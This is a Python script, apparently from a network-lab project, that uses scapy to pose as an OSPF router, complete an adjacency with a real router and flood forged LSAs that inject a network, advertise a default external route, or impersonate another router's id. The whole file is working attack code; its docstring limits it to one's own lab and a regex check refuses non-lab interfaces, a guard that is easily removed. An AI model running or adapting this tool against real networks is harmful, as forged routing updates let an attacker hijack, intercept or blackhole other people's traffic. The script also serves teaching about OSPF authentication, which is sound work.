#!/usr/bin/python3
"""Poses as an OSPF router beside a real one, and tells it lies.

For a lab of your own, to see what OSPF believes and what authentication changes (docs/attack.md): it is as
conspicuous as can be, and on a network that is not yours it is a crime.

    trivet exec mallory -- /usr/bin/python3 examples/attack/neighbor.py network 10.0.2.2/32
    trivet exec mallory -- /usr/bin/python3 examples/attack/neighbor.py external 0.0.0.0/0
    trivet exec mallory -- /usr/bin/python3 examples/attack/neighbor.py disguise 192.0.2.2

network    says that a network is here, as a stub of a router of its own
external   says that a network outside is reached from here
disguise   speaks in the name of another router, by its id, and says that nothing is attached to it

It needs scapy (Debian: python3-scapy), and runs until it is stopped or SECONDS are over.
"""

import argparse
import ipaddress
import logging
import re
import sys
import time

logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
from scapy.arch import get_if_addr, get_if_hwaddr  # noqa: E402; scapy.all takes twice as long
from scapy.config import conf  # noqa: E402
from scapy.contrib.ospf import (  # noqa: E402
    OSPF_DBDesc, OSPF_External_LSA, OSPF_Hdr, OSPF_Hello, OSPF_Link, OSPF_LSA_Hdr, OSPF_LSAck, OSPF_LSUpd,
    OSPF_Router_LSA)
from scapy.layers.inet import IP  # noqa: E402
from scapy.layers.l2 import Ether  # noqa: E402
from scapy.sendrecv import AsyncSniffer, sendp  # noqa: E402

ALL_ROUTERS = ("224.0.0.5", "01:00:5e:00:00:05")
EXTERNAL_ROUTING = 2  # the bit E of options: this is no stub area
INIT, MORE, MASTER = 4, 2, 1  # bits of database descriptions


class Neighbor:
    """One false router, and what it knows of the real one."""

    def __init__(self, interface, router_id):
        self.interface, self.id = interface, router_id
        self.address, self.mac = get_if_addr(interface), get_if_hwaddr(interface)
        self.peer = None  # the last Hello of the real router, with its headers
        self.sequence = int(time.time())  # of database descriptions, and LSAs: later runs have higher ones
        self.greeted = self.adjacent = False

    def say(self, message, to=ALL_ROUTERS):
        """Sends an OSPF packet, to all routers if nobody is named."""
        kind = {OSPF_Hello: 1, OSPF_DBDesc: 2, OSPF_LSUpd: 4, OSPF_LSAck: 5}[type(message)]
        header = OSPF_Hdr(type=kind, src=self.id, area=self.peer[OSPF_Hdr].area if self.peer else "0.0.0.0")
        sendp(Ether(src=self.mac, dst=to[1]) / IP(src=self.address, dst=to[0], ttl=1, tos=0xC0) / header / message,
              iface=self.interface, verbose=False)

    def hello(self):
        """Agrees with all that the real router says (RFC 2328, section 10.5), and never wants to be designated."""
        if not self.peer:
            return
        theirs = self.peer[OSPF_Hello]
        heard = [self.peer[OSPF_Hdr].src] if self.greeted else []  # nobody at first: what an earlier run left is over
        self.greeted = True
        self.say(OSPF_Hello(mask=theirs.mask, hellointerval=theirs.hellointerval, deadinterval=theirs.deadinterval,
                            options=EXTERNAL_ROUTING, prio=0, router=theirs.router, backup=theirs.backup,
                            neighbors=heard))

    def hear(self, packet):
        """Answers a packet of the real router."""
        if packet[IP].src == self.address or not packet.haslayer(OSPF_Hdr):
            return
        if packet.haslayer(OSPF_Hello):
            if not self.peer:
                print(f"heard    {packet[OSPF_Hdr].src} at {packet[IP].src}", flush=True)
            self.peer = packet
        elif packet.haslayer(OSPF_DBDesc):
            self.describe(packet)
        elif packet.haslayer(OSPF_LSUpd):
            headers = [OSPF_LSA_Hdr(age=a.age, options=a.options, type=a.type, id=a.id, adrouter=a.adrouter, seq=a.seq,
                                    chksum=a.chksum, len=a.len) for a in packet[OSPF_LSUpd].lsalist]
            self.say(OSPF_LSAck(lsaheaders=headers), (packet[IP].src, packet[Ether].src))

    def describe(self, packet):
        """Goes through the exchange of databases (section 10.8) as its master, with nothing to describe or to ask for."""
        theirs, to = packet[OSPF_DBDesc], (packet[IP].src, packet[Ether].src)
        flags = int(theirs.dbdescr)
        if flags & INIT:
            self.adjacent = False
            self.say(OSPF_DBDesc(mtu=1500, options=EXTERNAL_ROUTING, dbdescr=INIT | MORE | MASTER, ddseq=self.sequence), to)
        elif not flags & MASTER and theirs.ddseq == self.sequence:
            if flags & MORE or not self.adjacent:
                self.sequence += 1
                self.say(OSPF_DBDesc(mtu=1500, options=EXTERNAL_ROUTING, dbdescr=MASTER, ddseq=self.sequence), to)
            if not flags & MORE and not self.adjacent:
                self.adjacent = True
                print(f"adjacent {packet[OSPF_Hdr].src}", flush=True)

    def tell(self, lsas):
        self.say(OSPF_LSUpd(lsacount=len(lsas), lsalist=lsas))

    def router_lsa(self, **more):
        """The false router's own LSA: it is on the network that it shares with the real one."""
        links = [OSPF_Link(type=2, id=self.peer[OSPF_Hello].router, data=self.address, metric=1)]
        for network in more.pop("networks", []):
            links.append(OSPF_Link(type=3, id=str(network.network_address), data=str(network.netmask), metric=1))
        return OSPF_Router_LSA(id=self.id, adrouter=self.id, seq=0x80000000 + (int(time.time()) & 0xFFFFFFF), age=1,
                               options=EXTERNAL_ROUTING, linkcount=len(links), linklist=links, **more)


def lies(neighbor, what, about):
    """The LSAs of one attack."""
    sequence = 0x80000000 + (int(time.time()) & 0xFFFFFFF)
    if what == "network":
        return [neighbor.router_lsa(networks=[ipaddress.ip_network(about)])]
    if what == "external":
        network = ipaddress.ip_network(about)
        return [neighbor.router_lsa(flags=2), OSPF_External_LSA(
            id=str(network.network_address), adrouter=neighbor.id, mask=str(network.netmask), ebit=0, metric=1,
            fwdaddr="0.0.0.0", seq=sequence, age=1, options=EXTERNAL_ROUTING)]
    return [OSPF_Router_LSA(id=about, adrouter=about, seq=sequence, age=1, options=EXTERNAL_ROUTING, linkcount=0, linklist=[])]


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=["network", "external", "disguise"])
    parser.add_argument("about", help="the network, or the router id")
    parser.add_argument("--id", default="192.0.2.66", help="router id of the false router; the higher one leads the exchange")
    parser.add_argument("--seconds", type=float, default=float("inf"), metavar="SECONDS")
    args = parser.parse_args()
    try:  # now, and not when a router has been found
        (ipaddress.IPv4Address if args.attack == "disguise" else ipaddress.IPv4Network)(args.about)
    except ValueError as error:
        parser.error(str(error))

    # Links of a lab's nodes are called so; by mistake it could run on the machine itself.
    if not re.fullmatch(r".+-eth[0-9]+", str(conf.iface)):
        parser.error(f"{conf.iface} is no interface of a lab's node: run it by trivet exec")
    neighbor = Neighbor(conf.iface, args.id)
    sniffer = AsyncSniffer(iface=conf.iface, store=False, prn=neighbor.hear, lfilter=lambda p: IP in p and p[IP].proto == 89)
    sniffer.start()
    end, told = time.monotonic() + args.seconds, 0.0
    while time.monotonic() < end:
        neighbor.hello()
        if neighbor.adjacent and time.monotonic() > told + 5:  # an LSA may be lost, or be fought
            neighbor.tell(lies(neighbor, args.attack, args.about))
            if not told:
                print(f"told     {args.attack} {args.about}", flush=True)
            told = time.monotonic()
        time.sleep(1)
    sniffer.stop()
    if not neighbor.adjacent:
        sys.exit("no router has become a neighbour" if neighbor.peer else "no router was heard")


if __name__ == "__main__":
    main()
